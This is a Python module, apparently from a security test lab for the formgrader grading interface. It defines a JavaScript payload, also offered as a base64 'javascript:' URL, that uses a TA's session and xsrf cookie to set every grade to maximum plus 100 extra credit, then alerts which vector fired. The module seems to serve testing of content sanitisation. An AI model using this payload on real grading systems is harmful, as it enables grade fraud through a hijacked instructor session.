"""The script the active-content entries try to run in a TA's formgrader page (not an entry itself).

Run in the page, it gives every grade of the submission shown its maximum manual score plus 100
extra credit through formgrader's own API (the TA's session and xsrf cookie), then says which
vector ran with ``alert("deformlab-attack:<vector>")``. Only single quotes and no ``<``, ``>`` or
``&``, so it fits in a ``<script>``, an ``on*="..."`` attribute or a ``javascript:`` URL alike.
"""

import base64

_SCRIPT = (
    "(function(v){if(window['dl_'+v])return;window['dl_'+v]=1;"
    "var m=document.cookie.match(/_xsrf=([^;]*)/);var x=m?m[1]:'';"
    "var p=window.top.location.pathname;var s=p.match(/submissions[/]([^/]+)/)[1];var b=p.split('/formgrader/')[0];"
    "fetch(b+'/formgrader/api/grades?submission_id='+s).then(function(r){return r.json()})"
    ".then(function(g){return Promise.all(g.map(function(e){return fetch(b+'/formgrader/api/grade/'+e.id,"
    "{method:'PUT',headers:{'X-CSRFToken':x},body:JSON.stringify({manual_score:e.max_score,extra_credit:100})})}))})"
    ".finally(function(){window.top.alert('deformlab-attack:'+v)})})('VECTOR')"
)


def attack(vector: str) -> str:
    """The script, reporting itself as ``vector`` (lower-case letters, digits and dashes)."""
    return _SCRIPT.replace("VECTOR", vector)


def attack_url(vector: str) -> str:
    """The script as a ``javascript:`` URL that markdown keeps as one link target (no spaces, brackets or braces)."""
    return f"javascript:eval(atob('{base64.b64encode(attack(vector).encode()).decode()}'))"
